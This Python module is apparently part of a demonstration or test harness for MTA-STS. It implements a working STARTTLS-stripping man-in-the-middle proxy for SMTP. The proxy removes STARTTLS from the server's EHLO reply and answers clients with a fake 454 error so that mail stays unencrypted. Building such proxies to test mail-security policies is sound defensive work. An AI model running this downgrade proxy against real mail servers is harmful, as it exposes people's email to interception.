"""The STARTTLS-stripping attacker: a TCP proxy in front of a healthy MX.

Exactly the attack the seed article describes: it deletes the ``STARTTLS``
line from the server's EHLO reply, and answers a client's ``STARTTLS`` itself
with 454, so the session stays plaintext. A sender without an MTA-STS policy
delivers anyway; one enforcing a policy must defer the mail.
"""

from __future__ import annotations

import asyncio
import contextlib

from .topology import LISTEN_BACKLOG


def strip_starttls(reply: list[bytes]) -> list[bytes]:
    """Remove STARTTLS from one multi-line 250 reply, keeping the last line's final form."""
    kept = [line for line in reply if line[4:].strip().upper() != b"STARTTLS"]
    if not kept:
        return reply
    if kept[-1][3:4] == b"-":
        kept[-1] = kept[-1][:3] + b" " + kept[-1][4:]
    return kept


async def _server_to_client(server: asyncio.StreamReader, client: asyncio.StreamWriter) -> None:
    reply: list[bytes] = []
    while line := await server.readline():
        reply.append(line)
        if line[3:4] == b"-":
            continue  # a multi-line reply goes on
        out = strip_starttls(reply) if reply[0].startswith(b"250") else reply
        client.write(b"".join(out))
        await client.drain()
        reply = []


async def _client_to_server(
    client: asyncio.StreamReader, client_out: asyncio.StreamWriter, server: asyncio.StreamWriter
) -> None:
    while line := await client.readline():
        if line.strip().upper() == b"STARTTLS":
            client_out.write(b"454 4.7.0 TLS not available due to temporary reason\r\n")
            await client_out.drain()
            continue
        server.write(line)
        await server.drain()


async def _proxy(
    backend: str, port: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    try:
        server_reader, server_writer = await asyncio.open_connection(backend, port)
    except OSError:
        writer.close()
        return
    tasks = [
        asyncio.create_task(_server_to_client(server_reader, writer)),
        asyncio.create_task(_client_to_server(reader, writer, server_writer)),
    ]
    try:
        await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
    finally:
        for task in tasks:
            task.cancel()
        for w in (writer, server_writer):
            w.close()
            with contextlib.suppress(Exception):
                await w.wait_closed()


async def serve_attacker(address: str, backend: str, port: int) -> asyncio.AbstractServer:
    return await asyncio.start_server(
        lambda r, w: _proxy(backend, port, r, w), address, port, backlog=LISTEN_BACKLOG
    )
